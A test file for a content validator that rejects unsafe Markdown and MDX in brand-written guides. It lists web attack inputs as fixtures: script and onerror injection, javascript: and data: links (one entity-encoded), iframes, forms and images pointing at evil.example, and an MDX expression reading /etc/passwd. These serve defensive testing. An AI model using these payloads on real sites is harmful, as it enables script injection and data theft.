import { readFileSync } from 'node:fs';
import { globSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { unsafeContentProblems } from './safe-content.ts';

const page = (body: string) => `---\ntitle: T\n---\n\n${body}\n`;
const lines = (file: string, body: string) => unsafeContentProblems(file, page(body)).map((p) => `${p.line}: ${p.message}`);

// Each attack a hostile brand author could write; every one must be refused, in .md and .mdx.
const attacks: [string, string, RegExp][] = [
  ['script element', '<script>alert(1)</script>', /<script> runs script/],
  ['event handler', 'Hi <img src="/a.png" onerror="alert(1)">', /<img onerror> is an event handler/],
  ['javascript: link', '[x](javascript:alert(1))', /"javascript:" addresses/],
  ['javascript: link, entity-encoded and cased', '<a href=" JaVa&#115;cript:alert(1)">x</a>', /"javascript:" addresses/],
  ['data: link', '[x](data:text/html,<script>alert(1)</script>)', /"data:" addresses/],
  ['iframe', '<iframe src="https://evil.example/"></iframe>', /<iframe> shows another site/],
  ['object', '<object data="/x.swf"></object>', /<object> runs a plug-in/],
  ['embed', '<embed src="/x.swf">', /<embed> runs a plug-in/],
  ['form', '<form action="https://evil.example/"><input name="q"></form>', /<form> sends what people type/],
  ['off-origin image', '![x](https://evil.example/pixel.png)', /image loads "https:\/\/evil.example\/pixel.png" from outside the site/],
  ['protocol-relative image', '<img src="//evil.example/p.png" alt="">', /<img src> loads/],
  ['off-origin image by reference', '![x][p]\n\n[p]: https://evil.example/p.png', /image loads/],
  ['data: image', '![x](data:image/png;base64,iVBORw0KGgo=)', /image loads/],
  ['style element', '<style>body{background:url(https://evil.example/)}</style>', /<style> restyles/],
  ['inline svg with script', '<svg><script>alert(1)</script></svg>', /<svg> is not an element/],
  ['base element', '<base href="https://evil.example/">', /<base> redirects/],
];

describe('unsafeContentProblems', () => {
  describe.each(['guide.md', 'guide.mdx'])('in %s', (file) => {
    it.each(attacks)('refuses a %s', (_name, body, message) => {
      const found = lines(file, body);
      // Some attacks are not even well-formed MDX; MDX refuses those first, on the same line.
      expect(found.join('\n')).toMatch(file.endsWith('.mdx') ? new RegExp(`${message.source}|MDX cannot read this`) : message);
      // Every finding names the line the attack starts on (body starts on line 5).
      expect(found.every((line) => line.startsWith('5: '))).toBe(true);
    });
  });

  it('refuses MDX code: imports, expressions, unknown components and attribute expressions', () => {
    const found = lines('g.mdx', "import fs from 'node:fs';\n\n{fs.readFileSync('/etc/passwd', 'utf8')}\n\n<Evil />\n\n<Link href={'javascript:alert(1)'}>x</Link>");
    expect(found).toEqual([
      expect.stringMatching(/^5: import and export run code/),
      expect.stringMatching(/^7: \{…\} is code/),
      expect.stringMatching(/^9: <Evil> is not a component guides can use/),
      expect.stringMatching(/^11: <Link> has an attribute written as code/),
    ]);
  });

  it('refuses a javascript: href on the Link component', () => {
    expect(lines('g.mdx', '<Link href="javascript:alert(1)">x</Link>').join('\n')).toMatch(/"javascript:" addresses/);
  });

  it('accepts what guides legitimately write', () => {
    const body = [
      '[Start](/playbook/start/start-here/), [web](https://example.org/a?b=c), [mail](mailto:a@b.example), [call](tel:+441234), [top](#top), [rel](../x/).',
      '',
      '![Chart](/images/chart.png)',
      '',
      '<div role="region" tabindex="0" aria-label="Scores by part">',
      '<table><caption>Scores</caption><thead><tr><th scope="col">Part</th></tr></thead><tbody><tr><td colspan="2">1</td></tr></tbody></table>',
      '</div>',
      '',
      '<figure class="diagram" aria-label="Rocket"><dl><dt id="b1" data-position="1">B1</dt><dd><q>quoted</q> <strong>bold</strong></dd></dl><figcaption>Fig</figcaption></figure>',
    ].join('\n');
    expect(lines('g.md', body)).toEqual([]);
    expect(lines('g.mdx', `${body}\n\n<Link href="/results/">Results</Link>\n\n<NpsCalculator />\n\n<SourcesList />`)).toEqual([]);
  });

  it('passes every built-in guide and the example brand untouched', () => {
    const files = globSync(['src/content/playbook/**/*.{md,mdx}', 'brands/*/playbook/**/*.{md,mdx}']);
    expect(files.length).toBeGreaterThan(40);
    const problems = files.flatMap((file) => unsafeContentProblems(file, readFileSync(file, 'utf8')));
    expect(problems).toEqual([]);
  });
});
